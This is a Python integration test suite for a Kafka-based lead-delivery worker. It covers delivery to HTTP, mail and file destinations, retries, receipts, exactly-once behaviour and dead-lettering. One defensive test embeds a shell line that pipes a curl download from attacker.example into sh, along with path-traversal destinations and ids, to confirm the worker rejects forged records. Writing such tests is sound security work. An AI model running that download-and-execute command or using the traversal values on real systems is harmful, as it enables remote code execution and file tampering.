"""The delivery worker on a real broker: destinations, retries, receipts, and each id once."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from importlib.resources import files
from pathlib import Path
from typing import Any

import pytest
import xmlschema
from confluent_kafka import Producer
from deliverykit import (
    Endpoint,
    Mailbox,
    delivery,
    in_force,
    partner_rules,
    publish_deliveries,
    receipts,
    wait_committed,
    working,
)
from prometheus_client import REGISTRY
from streamkit import apply_rules, publish, reading, running, settings_env

from processor.cli import main
from processor.delivery import Worker, read_receipts
from processor.rules.deliveries import delivery_id
from processor.settings import Settings
from processor.stream.topics import Topics
from processor.wire import Codec

pytestmark = pytest.mark.integration


@pytest.fixture
def settings(stream_settings: Settings, unique: str, tmp_path: Path, smtp: Mailbox) -> Settings:
    return stream_settings.with_changes(
        receipts_topic=f"receipts-{unique}",
        delivery_dlq_topic=f"deliveries-dlq-{unique}",
        retry_topic_prefix=f"retry-{unique}.",
        deliveries_dir=tmp_path,
        smtp_host="127.0.0.1",
        smtp_port=smtp.port,
        smtp_tls="none",
        delivery_attempts=4,
        delivery_backoff_ms=20,
        delivery_timeout_ms=5000,
    )


def worker_counts(partner: str) -> Counter[str]:
    """The partner's finished deliveries by status, and its attempts, as the metrics count them."""
    counts: Counter[str] = Counter()
    for status in ("delivered", "failed", "rejected", "duplicate", "invalid"):
        labels = {"partner": partner, "status": status}
        counts[status] = int(
            REGISTRY.get_sample_value("lead_router_worker_deliveries_total", labels) or 0
        )
    attempts = REGISTRY.get_sample_value("lead_router_worker_attempts_total", {"partner": partner})
    counts["attempts"] = int(attempts or 0)
    return counts


def flags(settings: Settings) -> list[str]:
    return [
        "--bootstrap-servers",
        settings.kafka.bootstrap_servers,
        "--receipts-topic",
        settings.topics.receipts_topic,
    ]


RULES = """
partners:
  - id: east
    name: East & <Sons> Motors
    format: adf_xml
    destinations: ["{hook}", "mailto:leads@east.example", "file://deliveries/east"]
profiles:
  - id: web
    sources: [web]
    base_price: 25
    currency: USD
    assignments:
      - {{id: everything, partner: east}}
"""

LEADS: list[dict[str, Any]] = [
    {
        "lead_id": "full",
        "submitted_at": "2026-11-20T10:00:00Z",
        "site_id": "web",
        "interest_category": "Used Vehicles",
        "contact": {"first_name": "Zoë & Co", "last_name": "<O'Brien>", "email": "z@example.com"},
        "address": {"street": "1 Main St", "city": "München", "country": "DE"},
        "vehicle": {"year": 2022, "make": "Škoda", "model": "Octavia", "condition": "used"},
        "fields": {"ssn": "enc:AbCd=="},
        "comments": "Call after 5pm <please> & thanks",
    },
    {"lead_id": "bare", "submitted_at": "2026-11-20T10:00:01Z", "site_id": "web"},
    {
        "lead_id": "phone-only",
        "submitted_at": "2026-11-20T10:00:02Z",
        "site_id": "web",
        "contact": {"phone": "+15551234567"},
    },
]


def test_the_worker_delivers_to_http_mail_and_files_and_receipts_show_it(
    settings: Settings, http: Endpoint, smtp: Mailbox, tmp_path: Path, capsys: Any
) -> None:
    apply_rules(settings, RULES.format(hook=http.url("/hook")))
    publish(settings, LEADS)
    with running(settings), working(settings, "east"):
        found = receipts(settings, len(LEADS))

    ids = {delivery_id(lead["lead_id"], "east"): lead["lead_id"] for lead in LEADS}
    assert {r["delivery_id"]: r["lead_id"] for r in found} == ids
    assert {
        (r["status"], r["partner"], r["price"], r["currency"], r["attempts"]) for r in found
    } == {("delivered", "east", 25.0, "USD", 1)}

    schema = xmlschema.XMLSchema(str(files("processor.formats") / "adf.xsd"))
    posted = http.to("/hook")
    assert sorted(r.headers["Idempotency-Key"] for r in posted) == sorted(ids)
    for request in posted:
        schema.validate(request.body)
    by_key = {r.headers["Idempotency-Key"]: ET.fromstring(r.body) for r in posted}
    full = by_key[delivery_id("full", "east")]
    assert [n.text for n in full.findall("prospect/customer/contact/name")] == [
        "Zoë & Co",
        "<O'Brien>",
    ]
    assert full.findtext("prospect/vendor/vendorname") == "East & <Sons> Motors"
    assert full.find("prospect/vehicle[@status='used']") is not None

    mails = smtp.wait_for(len(LEADS))
    assert sorted(m["X-Lead-Router-Delivery-Id"] for m in mails) == sorted(ids)
    files_written = sorted(p.name for p in (tmp_path / "deliveries" / "east").iterdir())
    assert files_written == sorted(f"{ident}.xml" for ident in ids)

    assert main(["receipts", "--format", "json", *flags(settings)]) == 0
    shown = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert sorted(r["lead_id"] for r in shown) == sorted(ids.values())
    assert {r["status"] for r in shown} == {"delivered"}
    assert main(["receipts", "--lead", "bare", *flags(settings)]) == 0
    table = capsys.readouterr().out
    assert "bare" in table and "full" not in table
    assert "1 delivery: 1 delivered, earning 25.00 USD" in table
    assert main(["receipts", "--partner", "west", *flags(settings)]) == 0
    assert capsys.readouterr().out.strip() == "no receipts match"


def test_a_failing_endpoint_is_tried_again_at_once_and_a_refusing_one_rejected(
    settings: Settings, http: Endpoint, capsys: Any
) -> None:
    # No retries through retry topics: one attempt each, with its quick in-process tries.
    partner_rules(settings, [http.url("/hook")], delivery={"retries": []})
    # In turn: "flaky" 503, 503, 200; "refused" 400; "down" 503 four times.
    http.answer("/hook", 503, 503, 200, 400, then=503)
    records = [delivery("flaky", "p"), delivery("refused", "p"), delivery("down", "p")]
    publish_deliveries(settings, records)
    before = worker_counts("p")
    with working(settings, "p"):
        found = {r["lead_id"]: r for r in receipts(settings, 3)}
    counted = worker_counts("p")
    counted.subtract(before)
    assert +counted == {"delivered": 1, "rejected": 1, "failed": 1, "attempts": 3 + 1 + 4}

    assert (found["flaky"]["status"], found["flaky"]["attempts"]) == ("delivered", 1)
    assert found["flaky"]["detail"] == f"{http.url('/hook')}: HTTP 200 after 3 tries"
    assert found["flaky"]["revenue"] == 12.5
    assert len(http.to("/hook")) == 3 + 1 + 4
    assert (found["refused"]["status"], found["refused"]["attempts"]) == ("rejected", 1)
    assert "HTTP 400" in found["refused"]["detail"]
    assert (found["down"]["status"], found["down"]["attempts"]) == ("failed", 1)
    assert found["down"]["detail"] == f"{http.url('/hook')}: HTTP 503 after 4 tries"
    assert found["down"]["revenue"] is None

    assert main(["receipts", "--status", "failed", "--format", "json", *flags(settings)]) == 0
    shown = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["lead_id"] for r in shown] == ["down"]


def test_each_delivery_id_is_delivered_once_across_restarts(
    settings: Settings, http: Endpoint
) -> None:
    partner_rules(settings, [http.url("/hook")])
    one, two, three = (delivery(lead, "p") for lead in ("one", "two", "three"))
    publish_deliveries(settings, [one, two, one])  # "one" was published twice upstream
    before = worker_counts("p")
    with working(settings, "p") as worker:
        wait_committed(settings, worker, 3)
    publish_deliveries(settings, [two, three])
    with working(settings, "p") as worker:  # a restart: the committed offset, then the memory
        wait_committed(settings, worker, 5)
    # A worker in a new group starts at the topic's beginning: only the receipts stop it.
    fresh = settings.with_changes(group_id=f"{settings.kafka.group_id}-new")
    with working(fresh, "p") as worker:
        wait_committed(fresh, worker, 5)

    sent = Counter(r.headers["Idempotency-Key"] for r in http.to("/hook"))
    assert sent == {one["delivery_id"]: 1, two["delivery_id"]: 1, three["delivery_id"]: 1}
    counted = worker_counts("p")
    counted.subtract(before)
    # Skipped: the repeat of "one", "two" again after the restart, all five in the new group.
    assert +counted == {"delivered": 3, "duplicate": 1 + 1 + 5, "attempts": 3}
    assert sorted(r["lead_id"] for r in read_receipts(settings)) == ["one", "three", "two"]


class Crash(Exception):
    """The worker dies after sending and before its transaction commits."""


def test_a_crash_between_sending_and_recording_repeats_that_delivery_once(
    settings: Settings, http: Endpoint, monkeypatch: pytest.MonkeyPatch
) -> None:
    partner_rules(settings, [http.url("/hook")])
    record = delivery("one", "p")
    publish_deliveries(settings, [record])

    def crash(self: Worker, message: object, receipt: object) -> None:
        raise Crash

    with monkeypatch.context() as patch:
        patch.setattr(Worker, "_record", crash)
        with pytest.raises(Crash), working(settings, "p"):
            http.wait_for("/hook", 1)
    assert read_receipts(settings) == []

    with working(settings, "p") as worker:
        wait_committed(settings, worker, 1)
    # The documented window: sent again once, with the same key, so the endpoint can drop it.
    keys = [r.headers["Idempotency-Key"] for r in http.to("/hook")]
    assert keys == [record["delivery_id"]] * 2
    assert [r["status"] for r in read_receipts(settings)] == ["delivered"]


def test_the_deliver_command_writes_files_and_stops_on_sigterm(
    settings: Settings, tmp_path: Path
) -> None:
    partner_rules(settings, ["file://deliveries/p"])
    record = delivery("one", "p")
    publish_deliveries(settings, [record])
    log = tmp_path / "deliver.log"
    with open(log, "wb") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "processor", "deliver", "--partner", "p"],
            env=settings_env(settings),
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    try:
        [receipt] = receipts(settings, 1)
        process.send_signal(signal.SIGTERM)
        assert process.wait(30) == 0, log.read_text()
    finally:
        process.kill()
        process.wait(30)
    assert receipt["status"] == "delivered"
    written = tmp_path / "deliveries" / "p" / f"{record['delivery_id']}.json"
    assert json.loads(written.read_text("utf-8"))["delivery_id"] == record["delivery_id"]
    assert "(lead one): delivered" in log.read_text()


SCRIPT = "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
WRITTEN = 1_790_000_000_000


def test_a_forged_delivery_goes_only_where_the_rules_say_and_the_unfit_are_dead_lettered(
    settings: Settings, http: Endpoint, tmp_path: Path
) -> None:
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    settings = settings.with_changes(deliveries_dir=root)
    partner_rules(settings, [http.url("/hook"), "file://deliveries/p"])
    forged = delivery(
        "forged", "p", [f"file://{outside}", "file://../../escape", http.url("/attacker")]
    )
    forged |= {"format": "text", "payload": SCRIPT, "content_type": "text/x-shellscript"}
    elsewhere = delivery("elsewhere", "q", [f"file://{outside}"])
    renamed = delivery("renamed", "p", [f"file://{outside}"]) | {"delivery_id": "../../../x"}
    before, after = delivery("before", "p"), delivery("after", "p")
    publish_deliveries(settings, [before, forged])
    Topics(settings).ensure_deliveries(["p"])
    producer = Producer({"bootstrap.servers": settings.kafka.bootstrap_servers})
    codec, topic = Codec(), settings.topics.delivery_topic("p")
    for record in (elsewhere, renamed):  # written to p's topic, whatever they say
        producer.produce(topic, key=b"x", value=codec.encode(topic, "LeadDelivery", record))
    producer.produce(
        topic, key=b"raw", value=SCRIPT.encode(), headers=[("origin", b"test")], timestamp=WRITTEN
    )
    assert producer.flush(30) == 0
    publish_deliveries(settings, [after])

    with working(settings, "p") as worker:
        wait_committed(settings, worker, 6)
    with reading(settings, settings.topics.delivery_dlq_topic, None) as dlq:
        dead = dlq.drain()

    # The genuine deliveries and the forged one, re-rendered as the rules say, each once.
    found = {r["lead_id"]: r["status"] for r in read_receipts(settings)}
    assert found == {"before": "delivered", "forged": "delivered", "after": "delivered"}
    posted = http.to("/hook")
    assert sorted(json.loads(r.body)["lead"]["lead_id"] for r in posted) == [
        "after",
        "before",
        "forged",
    ]
    assert {r.headers["Content-Type"] for r in posted} == {"application/json"}
    assert http.to("/attacker") == []
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert written == sorted(
        f"root/deliveries/p/{record['delivery_id']}.json" for record in (before, forged, after)
    )
    assert not any(SCRIPT in p.read_text() for p in root.rglob("*.json"))

    # The records it would not send, as they were, with the reason and where they came from.
    assert [(r["key"], r["raw"]) for r in dead] == [
        (b"x", codec.encode(topic, "LeadDelivery", elsewhere)),
        (b"x", codec.encode(topic, "LeadDelivery", renamed)),
        (b"raw", SCRIPT.encode()),
    ]
    assert [r["headers"]["lead-router.error.reason"] for r in dead] == [
        b"wrong-partner",
        b"wrong-delivery-id",
        b"unknown-framing",
    ]
    assert [r["headers"]["lead-router.source.offset"] for r in dead] == [b"2", b"3", b"4"]
    assert {r["headers"]["lead-router.source.topic"] for r in dead} == {topic.encode()}
    assert (dead[2]["headers"]["origin"], dead[2]["timestamp"][1]) == (b"test", WRITTEN)
    assert worker_counts("p")["invalid"] >= 3


def test_the_worker_follows_the_rules_in_force(settings: Settings, http: Endpoint) -> None:
    first = partner_rules(settings, [http.url("/json")])
    records = [delivery(lead, "p") for lead in ("one", "two", "three", "four")]
    with working(settings, "p") as worker:
        in_force(worker, first)
        publish_deliveries(settings, records[:1])
        wait_committed(settings, worker, 1)
        in_force(worker, partner_rules(settings, [http.url("/text")], format="text", name="P"))
        publish_deliveries(settings, records[1:2])
        wait_committed(settings, worker, 2)
        in_force(worker, partner_rules(settings, [http.url("/json")], active=False))
        publish_deliveries(settings, records[2:3])
        wait_committed(settings, worker, 3)
        in_force(worker, apply_rules(settings, '{"partners": [{"id": "q", "format": "json"}]}'))
        publish_deliveries(settings, records[3:])
        wait_committed(settings, worker, 4)
    with reading(settings, settings.topics.delivery_dlq_topic, None) as dlq:
        dead = dlq.drain()

    [as_json] = http.to("/json")
    assert json.loads(as_json.body)["lead"]["lead_id"] == "one"
    [as_text] = http.to("/text")
    assert as_text.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert as_text.body.decode().startswith("New lead for P")
    assert [(r["key"], r["headers"]["lead-router.error.reason"]) for r in dead] == [
        (b"three", b"inactive-partner"),
        (b"four", b"unknown-partner"),
    ]
    assert sorted(r["lead_id"] for r in read_receipts(settings)) == ["one", "two"]


def test_a_worker_waits_for_rules_before_it_delivers(settings: Settings, http: Endpoint) -> None:
    publish_deliveries(settings, [delivery("one", "p")])
    with working(settings, "p") as worker:
        assert worker.rules_version is None
        partner_rules(settings, [http.url("/hook")])
        http.wait_for("/hook", 1)
        wait_committed(settings, worker, 1)
